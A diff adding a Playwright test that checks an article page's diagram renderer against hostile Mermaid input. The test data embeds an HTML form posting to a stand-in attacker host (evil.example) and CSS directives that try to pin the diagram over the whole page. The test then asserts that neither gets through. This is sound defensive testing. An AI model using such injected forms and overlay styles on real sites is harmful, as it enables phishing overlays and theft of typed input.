@@ -84,6 +84,28 @@ test('a diagram that cannot be drawn shows its source and says so', async ({ pag
   await expect(figure.locator('svg')).toHaveCount(0)
 })
 
+test('a hostile diagram has no form, and none of its styles puts it above the page', async ({ page }) => {
+  await page.goto('/article/kitchen-sink', { waitUntil: 'networkidle' })
+  const figure = diagram(page)
+  await figure.locator('code').evaluate((code) => {
+    code.textContent = `%%{init: {"themeCSS": "svg, .node { position: fixed; inset: 0; z-index: 99999 }"}}%%
+flowchart LR
+  soot["<form action='https://evil.example/'><input name='word'></form>Pine soot"] --> stick[Ink stick]
+  classDef wide position:fixed,top:0px,left:0px,width:9000px,height:9000px
+  class soot wide
+`
+  })
+  await figure.scrollIntoViewIfNeeded()
+  const frame = figure.getByRole('group', { name: caption })
+  await expect(frame.locator('svg').getByText('Ink stick')).toBeAttached({ timeout: patience })
+  await expect(frame.locator('form, input')).toHaveCount(0)
+  const positions = await frame
+    .locator('svg, svg *')
+    .evaluateAll((parts) => parts.map((part) => getComputedStyle(part).position))
+  expect(positions).not.toContain('fixed')
+  await expect(frame).toHaveCSS('contain', /layout paint|content/)
+})
+
 test('every word of code has a contrast of at least 4.5 to 1 in both modes', async ({ page }) => {
   await page.goto('/article/kitchen-sink')
   const listings = page.locator('#article-body .notion-code')
